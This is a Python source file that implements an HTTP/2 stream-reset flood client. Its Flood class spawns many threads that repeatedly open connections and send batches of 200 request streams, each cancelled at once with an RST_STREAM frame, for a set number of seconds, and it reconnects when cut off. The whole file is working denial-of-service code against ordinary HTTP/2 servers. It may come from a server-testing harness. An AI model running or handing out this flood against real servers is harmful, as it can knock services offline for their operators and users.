"""Clients that open calls and reset them at once, as fast as they can."""

import threading
import time

from http2 import (CANCEL, DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM,
                   Connection, frame, headers, message, repeated_headers)

# What comes between the headers of a call and its reset: the request, nothing
# though it may follow, nothing because nothing follows.
FULL, HEAD, END = "full", "head", "end"
PATIENCE = 60  # seconds


class Flood:
    """Lasts for so many seconds, from so many connections. Those that are shown
    the door come back if `again`."""

    def __init__(self, address, seconds, connections, path, wire=b"", kind=FULL,
                 again=False):
        self.address = address
        self.path = path
        self.wire = wire
        self.kind = kind
        self.again = again
        self.opened = 0
        self.cut = 0
        self._lock = threading.Lock()
        self._end = time.monotonic() + seconds
        self._threads = [threading.Thread(target=self._attack)
                         for _ in range(connections)]

    def __enter__(self):
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *unused):
        for thread in self._threads:
            thread.join()

    def _attack(self):
        while time.monotonic() < self._end:
            try:
                with Connection(self.address) as connection:
                    self._flood(connection)
            except OSError:
                with self._lock:
                    self.cut += 1
                if not self.again:
                    return

    def _flood(self, connection):
        drain = threading.Thread(
            target=connection.read_until,
            args=(lambda: time.monotonic() > self._end, PATIENCE))
        drain.start()
        try:
            block, stream = headers(self.path, indexed=True), 1
            while time.monotonic() < self._end:
                batch = []
                for _ in range(200):
                    batch.append(self._call(stream, block))
                    block = repeated_headers(self.path)
                    stream += 2
                connection.send(b"".join(batch))
                with self._lock:
                    self.opened += len(batch)
                if connection.closed:
                    raise ConnectionResetError
        finally:
            connection.closed = True
            drain.join()

    def _call(self, stream, block):
        flags = END_HEADERS | (END_STREAM if self.kind == END else 0)
        call = frame(HEADERS, flags, stream, block)
        if self.kind == FULL:
            call += frame(DATA, END_STREAM, stream, message(self.wire))
        return call + frame(RST_STREAM, 0, stream, CANCEL)

